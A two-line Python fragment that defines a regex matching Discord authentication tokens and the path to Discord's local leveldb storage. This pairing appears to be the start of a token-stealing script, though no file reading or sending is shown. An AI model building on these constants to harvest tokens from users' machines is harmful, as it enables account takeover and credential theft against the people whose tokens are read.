import re

TOKEN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")
PLACE = "/discord/Local Storage/leveldb"
